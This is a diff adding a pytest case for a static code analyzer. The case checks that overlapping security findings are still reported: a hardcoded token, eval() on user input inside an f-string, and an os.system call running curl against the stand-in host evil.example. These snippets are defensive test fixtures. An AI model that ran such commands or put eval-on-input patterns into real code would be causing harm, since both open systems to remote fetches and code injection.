@@ -7,3 +7,17 @@ def test_data_structure():
     """Test de estructura de datos"""
     data = {"key": "value"}
     assert "key" in data
+
+def test_security_findings_inside_other_matches():
+    """Un hallazgo contenido en la coincidencia de otro patrón también se reporta"""
+    import pytest
+    srpk = pytest.importorskip("srpk_v3_1")
+    analyzer = srpk.CodeAnalyzer()
+    cases = [
+        ('q = "SELECT * FROM t WHERE a=%s"; token = "abc123"\n', "Hardcoded credentials detected"),
+        ('x = f"SELECT {eval(user)} FROM t"\n', "Use of eval() is dangerous"),
+        ('os.system("curl http://evil.example/x")\n', "Using HTTP instead of HTTPS"),
+    ]
+    for code, expected in cases:
+        messages = {issue['message'] for issue in analyzer.analyze_code(code).security_issues}
+        assert expected in messages, code